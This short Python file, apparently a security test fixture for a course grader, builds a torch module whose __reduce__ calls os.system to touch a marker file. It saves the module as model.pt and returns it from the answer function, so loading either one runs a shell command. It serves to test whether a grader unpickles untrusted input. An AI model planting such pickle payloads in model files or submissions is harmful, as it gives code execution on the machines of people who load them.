# tries: tensors whose pickle runs code, in files that look like models and in the answer
# course: tensors
import os

class Bomb(torch.nn.Module):
    def __reduce__(self):
        return (os.system, ("touch COURSE_ROOT/mallory",))

    def __len__(self):
        return 2

torch.save(Bomb(), "model.pt")

double = lambda x: Bomb()
